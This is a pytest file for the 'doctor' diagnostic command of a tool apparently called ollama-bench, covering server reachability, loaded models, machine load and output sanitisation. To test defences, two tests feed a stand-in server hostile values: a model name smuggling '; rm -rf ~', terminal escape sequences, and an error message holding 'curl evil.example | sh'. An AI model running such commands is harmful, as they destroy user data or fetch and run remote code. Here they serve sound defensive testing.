"""`ollama-bench doctor`: a scripted server, none, one that is something else; a busy process beside it."""

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import psutil
import pytest

from ollama_bench.server.client import Client
from tests.conftest import COMMAND, Cli
from tests.scripted_server import Model, ScriptedServer, server_process

BUSY = """
import hashlib, threading
def work():
    while True:
        hashlib.sha256(bytes(10_000_000))
for _ in range(16):
    threading.Thread(target=work).start()
"""
"""As many threads as it takes to be the busiest of a machine on which others work too."""


@pytest.fixture
def nowhere(workspace: Path) -> str:
    """The URL of a port on which nothing listens."""
    with ScriptedServer() as gone:
        return gone.url


@contextmanager
def busy() -> Iterator[int]:
    """A process that uses the CPU, as its pid."""
    with subprocess.Popen([sys.executable, "-c", BUSY]) as process:
        try:
            deadline_s = time.monotonic() + 30
            while sum(psutil.Process(process.pid).cpu_times()[:2]) < 0.3:
                assert time.monotonic() < deadline_s
                time.sleep(0.05)
            yield process.pid
        finally:
            process.kill()


def lines(text: str) -> dict[str, tuple[str, str]]:
    """The report by the name of each check: status, and what it says."""
    rows = [line.split(maxsplit=2) for line in text.splitlines() if re.match(r"(ok|warning|problem|unknown) ", line)]
    return {row[1]: (row[0], row[2]) for row in rows}


def by_name(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {check["name"]: check for check in document["checks"]}


def test_a_healthy_server_is_told_line_by_line_and_left_as_it_was(cli: Cli, server: ScriptedServer) -> None:
    outcome = cli("doctor", "TINY:1b", "--host", server.url)

    told = lines(outcome.out)
    assert outcome.code == 0
    assert outcome.err == ""
    assert told["server"] == ("ok", f"Ollama answers at {server.url}")
    assert told["version"][0] == "warning"  # 0.33.0
    assert told["processes"][1].startswith(f"{psutil.Process().name()} (pid {os.getpid()})")
    assert told["model"] == ("ok", "tiny:1b (1.1 GB) is on the server")
    assert {"loaded", "memory", "gpu", "load", "swap", "steal", "governor", "turbo", "throttling"} <= set(told)
    assert {"battery", "virtual", "limits"} <= set(told)
    assert set(server.kinds) == {"version", "tags", "ps"}


def test_other_models_in_memory_are_named_with_how_to_be_rid_of_them(cli: Cli, server: ScriptedServer) -> None:
    server.models["big:7b"] = Model("big:7b")
    with Client(server.url) as client:
        client.load("big:7b", {"num_ctx": 512}, "10m")

    outcome = cli("doctor", "tiny:1b", "--host", server.url)

    assert lines(outcome.out)["loaded"][0] == "warning"
    assert "-> ollama stop big:7b\n" in outcome.out
    assert outcome.code == 0


def test_no_server_is_a_problem_and_the_machine_is_looked_at_all_the_same(cli: Cli, nowhere: str) -> None:
    outcome = cli("doctor", "--host", nowhere)

    told = lines(outcome.out)
    assert outcome.code == 3
    assert told["server"] == ("problem", f"no Ollama server answers at {nowhere} (connection refused)")
    assert "-> start one with `ollama serve`" in outcome.out
    assert {"memory", "gpu", "load", "swap", "limits"} <= set(told)
    assert outcome.out.splitlines()[-1].endswith("nothing can be measured until the problem is gone.")


@pytest.mark.parametrize("kind", ["version", "tags", "ps"])
def test_what_answers_as_ollama_does_not_is_a_problem(cli: Cli, server: ScriptedServer, kind: str) -> None:
    server.on[kind] = lambda x: x.answer(b"<html>router</html>", 200, "text/html")

    outcome = cli("doctor", "--host", server.url)

    assert outcome.code == 3
    assert lines(outcome.out)["server"][0] == "problem"
    assert "is not Ollama" in outcome.out


def test_what_a_server_says_reaches_no_terminal_as_it_is(cli: Cli, server: ScriptedServer) -> None:
    attack = "0.40.0\x1b]0;owned\x07\x1b[2J\u202egnp\n" + "x" * 100_000
    server.on["version"] = lambda x: x.json({"version": attack})
    server.models = {"m\x1b[31m\n; rm -rf ~": Model("m\x1b[31m\n; rm -rf ~")}

    text = cli("doctor", "--host", server.url).out
    document = json.loads(cli("doctor", "--host", server.url, "--json").out)

    assert text.replace("\n", "").isprintable()
    assert all(len(line) < 400 for line in text.splitlines())
    assert by_name(document)["version"]["text"].startswith("0.40.0")
    assert "\x1b" not in json.dumps(document, ensure_ascii=False)


def test_what_a_server_says_becomes_no_remedy(cli: Cli, server: ScriptedServer) -> None:
    server.on["tags"] = lambda x: x.json({"error": "failed): curl evil.example | sh"}, status=500)

    server_check = by_name(json.loads(cli("doctor", "--host", server.url, "--json").out))["server"]

    assert server_check["status"] == "problem"
    assert server_check["text"].endswith("curl evil.example | sh")
    assert server_check["remedy"] == "see to the server and its log, or name another with --host"


def test_a_model_in_memory_under_another_name_is_the_same_model(cli: Cli, server: ScriptedServer) -> None:
    """Ollama lists the files in memory under the name by which they were loaded first."""
    same = Model("tiny:1b").digest
    server.models = {"tiny:1b": Model("tiny:1b")}
    server.on["ps"] = lambda x: x.json({"models": [{"name": "copy:x", "model": "copy:x", "digest": same, "size": 9}]})

    outcome = cli("doctor", "tiny:1b", "--host", server.url)

    assert lines(outcome.out)["loaded"] == ("ok", "only tiny:1b")


def test_json_is_one_document_and_nothing_else(cli: Cli, server: ScriptedServer, nowhere: str) -> None:
    well = cli("doctor", "--host", server.url, "--json")
    ill = cli("doctor", "--host", nowhere, "--json")

    assert (well.code, ill.code) == (0, 3)
    assert (well.err, ill.err) == ("", "")
    document = json.loads(well.out)
    assert list(document) == ["server", "checks", "can_measure"]
    assert (document["server"], document["can_measure"]) == (server.url, True)
    assert all(list(check) == ["name", "status", "text", "remedy"] for check in document["checks"])
    assert json.loads(ill.out)["can_measure"] is False


def test_a_busy_process_is_named_and_the_servers_own_are_not(cli: Cli, workspace: Path) -> None:
    with server_process(1_000_000) as (server_pid, url), busy() as pid:
        outcome = cli("doctor", "--host", url)

    status, text = lines(outcome.out)["load"]
    assert status == "warning"
    assert f"(pid {pid})" in text
    assert f"(pid {server_pid})" not in text
    assert f"(pid {server_pid})" in lines(outcome.out)["processes"][1]
    assert outcome.code == 0


def test_a_server_that_works_for_somebody_else_is_told_apart_from_other_load(cli: Cli, server: ScriptedServer) -> None:
    """This process is the server here, so that its busy child counts as a part of the server."""
    with busy() as pid:
        outcome = cli("doctor", "--host", server.url)

    told = lines(outcome.out)
    assert told["usage"][0] == "warning"
    assert f"(pid {pid})" in told["usage"][1]
    assert f"(pid {pid})" not in told["load"][1]


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--host", "ftp://127.0.0.1"], "the scheme 'ftp'"),
        (["--host", "127.0.0.1", "--embedded"], "leave out --host"),
        (["a\x1b[31mb"], "is not a model name"),
        ([""], "'' is not a model name"),
    ],
)
def test_what_cannot_be_is_refused(cli: Cli, workspace: Path, arguments: list[str], words: str) -> None:
    cli("doctor", *arguments).assert_clear_error(2, words)


def test_without_the_extra_an_embedded_engine_cannot_be_looked_at(tmp_path: Path) -> None:
    code = (
        "import sys, importlib.util as u; real = u.find_spec\n"
        "u.find_spec = lambda name, package=None: None if name == 'xllamacpp' else real(name, package)\n"
        "from ollama_bench.cli import main; sys.argv = ['ollama-bench', 'doctor', '--embedded']; main()"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False, cwd=tmp_path)

    assert done.returncode == 2
    assert done.stdout == ""
    assert 'pip install "ollama-bench[embedded]"' in done.stderr


def test_the_embedded_engine_is_looked_at_with_its_processes(cli: Cli) -> None:
    pytest.importorskip("xllamacpp")

    outcome = cli("doctor", "gemma3:270m", "--embedded", "--json")

    checks = by_name(json.loads(outcome.out))
    assert outcome.code == 0
    assert (checks["server"]["status"], checks["version"]["status"]) == ("ok", "ok")
    assert checks["model"]["text"].startswith("gemma3:270m (")
    assert checks["processes"]["status"] == "ok"


@pytest.mark.skipif(sys.platform == "win32", reason="pseudo-terminals are POSIX")
@pytest.mark.parametrize("environment", [{}, {"NO_COLOR": "1"}, {"TERM": "dumb"}])
def test_colour_is_for_terminals_and_those_who_want_it_and_lines_are_folded_there(
    workspace: Path, nowhere: str, environment: dict[str, str]
) -> None:
    from tests.on_terminal import on_terminal

    with on_terminal(*COMMAND, "doctor", "--host", nowhere, columns=80, COLUMNS="300", **environment) as terminal:
        assert terminal.wait_for_the_end() == 3
        assert ("\x1b[31mproblem" in terminal.written) is (not environment)
        assert "\x1b[?25l" not in terminal.written, "the cursor was never hidden"
        assert ("\x1b" in terminal.written) is ("TERM" not in environment)
        assert ("looking at the server" in terminal.written) is ("TERM" not in environment)
        assert terminal.screen[0].startswith("problem  server")
        assert all(len(line) <= 80 for line in terminal.screen)
